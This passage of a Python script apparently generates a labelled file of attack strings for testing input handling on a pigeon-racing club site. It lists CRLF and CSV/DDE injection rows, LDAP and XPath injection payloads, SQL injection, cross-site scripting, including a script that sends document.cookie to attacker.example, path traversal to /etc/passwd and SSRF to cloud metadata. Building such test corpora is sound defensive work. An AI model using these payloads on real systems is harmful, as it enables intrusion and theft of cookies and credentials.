mail-header :: Your bird is home␍␤Content-Type: text/html␍␤␍␤<a href="https://attacker.example/login">Verify loft</a>
mail-header :: x@example.org\r\nBcc: all-members@attacker.example
csv-row :: Sunny Side Lofts␤999,Hawk Loft,GB24N99999,2099.999
csv-row :: GB24N12345␍␤1,attacker,GB00X00000,9999.9,PAID
csv-row :: 6 birds"␤"hawk","=cmd|' /C calc'!A0","£0
csv-row :: loft 114;Bourges␤loft 999;Bourges;1st;£5000
csv-row :: 13:42:07%0a1,Hawk,GB24N00001,1999.999
csv-row :: Kowalski␤admin,admin@attacker.example,is_admin=1
""")

LIT["ldap-xpath"] = block(r"""
ldap :: *)(uid=*))(|(uid=*
ldap :: pete)(|(objectClass=*)
ldap :: admin)(&)
ldap :: *)(userPassword=*)
ldap :: O*)(|(memberOf=cn=admins,ou=groups,dc=fed,dc=org)
ldap :: loft114)(!(cn=nobody)
ldap :: *)(description=*pw*
ldap :: x*)(|(mail=*@*
ldap :: \2a)(uid=\2a
ldap :: admin))%00
xpath :: ' or '1'='1
xpath :: GB24N12345' or ring!='' or 'a'='b
xpath :: x' or count(/members/member)>0 or 'a'='b
xpath :: ']|//member/password|//*['
xpath :: ' or substring(//member[1]/password,1,1)='p' or '
xpath :: pete' or name(/*)='fed' and '1'='1
xpath :: 1 or 1=1
xpath :: loft"] | //user/* | //*["
xpath :: ' and string-length(//member[login='admin']/pw)>6 and ''='
xpath :: Sunny')] | //* | /x[contains(.,'
""")

# Small generated share: hand-written payload pools joined to hand-written
# theme prefixes, plus a few once-percent-encoded sqli/traversal values.
JOIN = {
    "sqli": (["ring ", "Loft name: ", "search: ", "race id "],
             [("union", "x' UNION SELECT login,pw FROM members--"),
              ("boolean", "' OR 'p'='p"),
              ("time-blind", "' AND SLEEP(6)#")], 1),
    "xss": (["Forum: ", "Great result! ", "Loft: ", "Message: ", "Note: "],
            [("event-handler", "<img src=q onerror=alert(7)>"),
             ("svg", "<svg/onload=alert(document.domain)>"),
             ("script", "<script>fetch('//attacker.example/'+document.cookie)</script>")], 7),
    "traversal": (["photos/", "downloads/"],
                  [("dotdot", "../../../../etc/passwd")], 2),
    "ssrf": (["Loft photo URL: ", "Import results from ", "Avatar: ", "Feed: "],
             [("metadata", "http://169.254.169.254/latest/meta-data/"),
              ("loopback", "http://127.0.0.1:8080/admin")], 2),
}
URLENC = {"sqli": 6, "traversal": 4}
ORDER = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]


def pct(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def main():
    rng = random.Random(SEED)
    here = os.path.dirname(os.path.abspath(__file__))
    benign = set()
    bpath = os.path.join(here, "benign.jsonl")
    if os.path.exists(bpath):
        with open(bpath, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])
    seen = set()
    rows = []
    nlit = 0
    for cat in ORDER:
        items = []
        for cls, v in LIT[cat]:
            items.append((cls, v))
            nlit += 1
        if cat in JOIN:
            prefixes, pool, n = JOIN[cat]
            made = 0
            tries = 0
            while made < n:
                tries += 1
                assert tries < 10000
                p = rng.choice(prefixes)
                cls, pay = rng.choice(pool)
                v = p + pay
                if v in seen or any(v == x for _, x in items):
                    continue
                seen.add(v)
                items.append((cls, v))
                made += 1
        if cat in URLENC:
            lit_pool = [(c, v) for c, v in LIT[cat] if c not in ("encoded",) and "%" not in v]
            picks = rng.sample(lit_pool, URLENC[cat])
            for cls, v in picks:
                items.append((cls + "+urlencode", pct(v)))
        for cls, v in items:
            assert 1 <= len(v) <= 2000, v
            assert v not in benign, v
            assert all(ch in "\n\r\t" or ord(ch) >= 32 for ch in v), v
            rows.append((cat, cls, v))
    vals = [r[2] for r in rows]
    dup = {v for v in vals if vals.count(v) > 1}
    assert not dup, dup
    with open(os.path.join(here, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            f.write(json.dumps({"id": "haln-%05d" % i, "category": cat, "class": cls, "label": "attack", "value": v}, ensure_ascii=False) + "\n")
    print("wrote %d attack values (%d literals)" % (len(rows), nlit))


if __name__ == "__main__":
    main()
